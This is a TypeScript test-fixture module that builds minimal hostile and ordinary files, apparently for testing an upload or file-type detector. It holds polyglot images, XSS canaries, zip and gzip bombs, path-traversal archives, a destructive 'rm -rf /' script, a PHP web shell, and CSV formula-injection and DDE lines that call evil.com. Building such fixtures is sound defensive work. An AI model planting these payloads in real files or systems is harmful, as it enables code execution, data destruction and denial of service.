import { Buffer } from 'node:buffer'
import { crc32, deflateRawSync, gzipSync } from 'node:zlib'
import * as samples from './workers/samples.ts'

/** Real and hostile files, made here so that a reader sees what is in them. Each holds as little as its format needs. */

/** What a file does that runs in a page or a worker: it asks its own origin for /canary, which a test then hears of. */
export const canary = "fetch('/canary?'+encodeURIComponent(self.location.href))"

const latin1 = (text: string) => Buffer.from(text, 'latin1')
const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex')
const script = `<script>${canary}</script>`
const svgNamespace = 'http://www.w3.org/2000/svg'
const xhtmlNamespace = 'http://www.w3.org/1999/xhtml'
const svg = `<svg xmlns="${svgNamespace}" width="9" height="9" onload="${canary}">${script}</svg>`
const html = `<html><head>${script}</head><body onload="${canary}"><img src=x onerror="${canary}"></body></html>`
const xhtml = `<html xmlns="${xhtmlNamespace}"><head><title>x</title>${script}</head></html>`
const prolog = '<?xml version="1.0" encoding="UTF-8"?>\n'
const utf16le = (text: string) => Buffer.from(text, 'utf16le')
const utf16be = (text: string) => utf16le(text).swap16()

// Markup

export const svgPlain = Buffer.from(svg)
export const svgWithProlog = Buffer.from(prolog + svg)
export const svgWithMark = Buffer.from(`\ufeff${prolog}${svg}`)
export const svgWithDoctype = Buffer.from(
  `${prolog}<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${svg}`,
)
export const svgWithEntity = Buffer.from(
  `${prolog}<!DOCTYPE svg [<!ENTITY x "${svgNamespace}">]>\n<svg xmlns="&x;">${script}</svg>`,
)
export const svgWithPrefix = Buffer.from(
  `${prolog}<!-- a drawing -->\n<s:svg xmlns:s='${svgNamespace}'><s:script>${canary}</s:script></s:svg>`,
)
export const svgUtf16 = utf16le(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${svg}`)
export const svgUtf16BigEndian = utf16be(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${svg}`)
export const svgUtf16WithoutMark = utf16le(`<?xml version="1.0" encoding="UTF-16"?>${svg}`)
export const svgz = gzipSync(svgWithProlog)
/** The root lies behind more comment than anybody looks at. */
export const svgBehindComment = Buffer.from(`${prolog}<!--${' '.repeat(70_000)}-->${svg}`)
/** The root has another name, and the namespace of SVG all the same. */
export const svgByNamespace = Buffer.from(`${prolog}<g xmlns="${svgNamespace}">${script}</g>`)
export const htmlPlain = Buffer.from(`<!DOCTYPE html>${html}`)
export const htmlWithMark = Buffer.from(`\ufeff<!DOCTYPE html>${html}`)
export const htmlBehindSpace = Buffer.from(` \r\n\t\n${html}`)
export const htmlBehindComment = Buffer.from(`<!-- saved -->\n${html}`)
export const htmlInComment = Buffer.from(`<!-->${script}-->`)
export const htmlFragment = Buffer.from(`<a href="javascript:${canary}">x</a>${script}`)
export const htmlScriptOnly = Buffer.from(script)
export const htmlBehindText = Buffer.from(`A note.\n${html}`)
export const htmlUtf7 = Buffer.from('+ADw-script+AD4-fetch(+ACc-/canary+ACc-)+ADw-/script+AD4-')
export const htmlUtf16 = utf16le(`\ufeff<!DOCTYPE html>${html}`)
export const xhtmlPlain = Buffer.from(xhtml)
export const xhtmlWithProlog = Buffer.from(prolog + xhtml)
export const xhtmlByNamespace = Buffer.from(`${prolog}<script xmlns="${xhtmlNamespace}">${canary}</script>`)
export const xmlWithXslt = Buffer.from(
  `${prolog}<?xml-stylesheet type="text/xsl" href="/canary?xslt"?>\n<order><line/></order>`,
)
export const xmlWithXhtmlInside = Buffer.from(
  `${prolog}<order><script xmlns="${xhtmlNamespace}">${canary}</script></order>`,
)
export const sitemap = Buffer.from(`${prolog}<urlset xmlns:xhtml="${xhtmlNamespace}"><url/></urlset>`)
export const xslt = Buffer.from(
  `${prolog}<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`,
)
export const mhtml = Buffer.from(
  `From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--\r\n`,
)
export const mixedReplace = Buffer.from(
  `--b\r\nContent-Type: text/html\r\nSet-Cookie: canary=1\r\n\r\n${html}\r\n--b--\r\n`,
)

// Scripts, and what a desktop runs

export const javascript = Buffer.from(`${canary};\n`)
export const module = Buffer.from(`${canary};\nexport default 1\n`)
export const css = Buffer.from(`html { background: url('/canary?css') }\n`)
export const hta = Buffer.from(`<html><head><HTA:APPLICATION/>${script}</head></html>`)
export const shell = Buffer.from('#!/bin/sh\nrm -rf /\n')
export const php = Buffer.from('<?php system($_GET["c"]);\n')
export const urlShortcut = Buffer.from('[InternetShortcut]\r\nURL=file://evil.com/x\r\n')
export const lnk = Buffer.concat([hex('4c000000 01140200 00000000 c0000000 00000046'), Buffer.alloc(60)])
export const elf = Buffer.concat([hex('7f454c46 02010100'), Buffer.alloc(60)])
export const machO = Buffer.concat([hex('cffaedfe 07000001'), Buffer.alloc(60)])
export const classFile = hex('cafebabe 00000034 0010')
export const swf = Buffer.concat([latin1('FWS\x09'), hex('40000000'), Buffer.alloc(60)])
export const wasm = hex('0061736d 01000000')
export const csvFormula = Buffer.from('name,total\n=HYPERLINK("http://evil.com/"&A1),=cmd|\' /C calc\'!A0\n')
export const json = Buffer.from(`{"</script>${script.replaceAll('"', "'")}":1}`)

// Files that are two things

/** A GIF whose width spells a comment, so that it is a script as well. */
export const gifScript = Buffer.concat([latin1('GIF89a/*'), samples.gif.subarray(8), latin1(`*/=1;${canary};`)])
/** The same, made of nothing but text. */
export const gifText = Buffer.from(`GIF89a=1;${canary};\n`)
export const gifHtml = Buffer.concat([samples.gif, Buffer.from(html)])
export const bmpScript = Buffer.concat([latin1('BM/*\0\0\0\0\0\0\x1a\0\0\0\x0c\0\0\0'), latin1(`*/=1;${canary};`)])
export const jpegHtml = Buffer.concat([
  samples.jpeg.subarray(0, 20),
  hex('fffe'),
  Buffer.from([html.length >> 8, html.length & 0xff]),
  Buffer.from(html),
  samples.jpeg.subarray(20),
])
export const jpegPhp = Buffer.concat([samples.jpeg, php])
export const jpegZip = Buffer.concat([samples.jpeg, samples.archive])
/** An image that is a Java archive behind its end. */
export const gifar = Buffer.concat([samples.gif, samples.zip({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n' })])
export const pngHtml = Buffer.concat([
  samples.png(2, 2).subarray(0, 33),
  chunk('tEXt', Buffer.from(`Comment\0${html}`)),
  samples.png(2, 2).subarray(33),
])
export const pdfZip = Buffer.concat([samples.pdf, samples.archive])
export const pdfHtml = Buffer.concat([samples.pdf, Buffer.from(html)])
export const htmlPdf = Buffer.concat([Buffer.from(html), samples.pdf])
export const zipPdf = Buffer.concat([samples.archive, samples.pdf])
export const pdfScript = latin1('%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n')

function chunk(name: string, data: Uint8Array): Buffer {
  const frame = Buffer.alloc(8)
  const body = Buffer.concat([Buffer.from(name), data])
  frame.writeUInt32BE(data.length, 0)
  frame.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
}

// Archives and documents

export const zipTraversal = samples.zip({ '../../etc/passwd': 'x', '..\\..\\x': 'x', '/abs': 'x', 'C:\\x': 'x' })
/** Says that it unpacks to 4 GiB. */
export const zipDeclaredBomb = patched(samples.zip({ 'a.txt': 'x' }), 22, 'fffffffe')
/** What a detector of Office files would unpack: 32 MiB of nothing. */
export const zipBomb = deflatedEntry('[Content_Types].xml', Buffer.alloc(32 * 1024 * 1024))
export const gzipBomb = gzipSync(Buffer.alloc(32 * 1024 * 1024))
export const xlsx = office('spreadsheetml.sheet', 'xl/workbook.xml')
export const xlsm = samples.zip({
  '[Content_Types].xml': contentTypes('application/vnd.ms-excel.sheet.macroEnabled.main+xml', 'xl/workbook.xml'),
  'xl/vbaProject.bin': 'x',
})
export const pptx = office('presentationml.presentation', 'ppt/presentation.xml')
export const odt = samples.zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': prolog })
export const epub = samples.zip({ mimetype: 'application/epub+zip', 'META-INF/container.xml': prolog })
export const jar = samples.zip({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n', 'Main.class': 'x' })
export const apk = samples.zip({ 'AndroidManifest.xml': 'x', 'classes.dex': 'dex\n035' })
export const compoundFile = Buffer.concat([hex('d0cf11e0 a1b11ae1'), Buffer.alloc(504)])
export const rtf = latin1('{\\rtf1\\ansi{\\object\\objupdate}x}')
export const postscript = latin1('%!PS-Adobe-3.0\n(x) run\n')

function contentTypes(type: string, part: string): string {
  return `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/${part}" ContentType="${type}"/></Types>`
}

function office(kind: string, part: string): Buffer {
  return samples.zip({
    '[Content_Types].xml': contentTypes(`application/vnd.openxmlformats-officedocument.${kind}.main+xml`, part),
    [part]: prolog,
  })
}

function patched(bytes: Buffer, offset: number, value: string): Buffer {
  const copy = Buffer.from(bytes)
  hex(value).reverse().copy(copy, offset)
  return copy
}

function deflatedEntry(name: string, content: Uint8Array): Buffer {
  const data = deflateRawSync(content)
  const header = Buffer.alloc(26)
  header.writeUInt16LE(20, 0)
  header.writeUInt16LE(8, 4)
  header.writeUInt32LE(crc32(content), 10)
  header.writeUInt32LE(data.length, 14)
  header.writeUInt32LE(content.length, 18)
  header.writeUInt16LE(name.length, 22)
  return Buffer.concat([latin1('PK\x03\x04'), header, Buffer.from(name), data])
}

// Images, sound, video, fonts, archives and data, by their first bytes

const padded = (text: string, bytes = 64) => Buffer.concat([latin1(text), Buffer.alloc(bytes)])
const isoMedia = (brand: string) => padded(`\0\0\0\x18ftyp${brand}\0\0\0\0${brand}mif1\0\0\0\x08mdat`)

export const heic = isoMedia('heic')
export const avif = isoMedia('avif')
export const mov = isoMedia('qt  ')
export const m4a = isoMedia('M4A ')
export const m4v = isoMedia('M4V ')
export const threeGp = isoMedia('3gp5')
export const tiff = padded('II*\0\x08\0\0\0')
export const icon = padded('\0\0\x01\0\x01\0\x10\x10')
export const bmp = padded('BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0')
export const psd = padded('8BPS\0\x01')
export const mp3 = Buffer.concat([latin1('ID3\x03\0\0\0\0\0\0'), hex('fffb9064'), Buffer.alloc(413)])
export const flac = padded('fLaC\0\0\0\x22')
export const wav = padded('RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0')
export const avi = padded('RIFF\x24\0\0\0AVI LIST')
export const ogg = padded('OggS\0\x02\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\x1e\x01vorbis')
export const opus = padded('OggS\0\x02\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\x13OpusHead')
export const webm = padded('\x1a\x45\xdf\xa3\x87\x42\x82\x84webm')
export const mkv = padded('\x1a\x45\xdf\xa3\x8b\x42\x82\x88matroska')
export const midi = padded('MThd\0\0\0\x06')
export const woff = padded('wOFF\0\x01\0\0')
export const woff2 = padded('wOF2\0\x01\0\0')
export const ttf = padded('\0\x01\0\0\0')
export const otf = padded('OTTO\0')
export const tar = tarOf('../../etc/passwd', 'x')
export const tarGz = gzipSync(tar)
export const gz = gzipSync('text')
export const bz2 = padded('BZh91AY&SY')
export const xz = padded('\xfd7zXZ\0')
export const zstd = padded('\x28\xb5\x2f\xfd')
export const sevenZip = padded('7z\xbc\xaf\x27\x1c')
export const rar = padded('Rar!\x1a\x07\x01\0')
export const deb = padded('!<arch>\ndebian-binary   ')
export const cab = padded('MSCF')
export const sqlite = padded('SQLite format 3\0')
export const parquet = padded('PAR1')
export const arrow = padded('ARROW1\0\0')
export const pcap = padded('\xd4\xc3\xb2\xa1\x02\0\x04\0')
export const dicom = Buffer.concat([Buffer.alloc(128), latin1('DICM'), Buffer.alloc(16)])
export const pgp = latin1('-----BEGIN PGP MESSAGE-----\n\nx\n-----END PGP MESSAGE-----\n')
export const calendar = latin1('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n')

function tarOf(name: string, content: string): Buffer {
  const header = Buffer.alloc(512)
  header.write(name, 0)
  header.write('0000644\x000000000\x000000000\x00', 100)
  header.write(`${content.length.toString(8).padStart(11, '0')}\x0000000000000\x00        0`, 124)
  header.write('ustar\x0000', 257)
  const sum = header.reduce((total, byte) => total + byte, 0)
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
  return Buffer.concat([header, Buffer.from(content.padEnd(512, '\0')), Buffer.alloc(1024)])
}
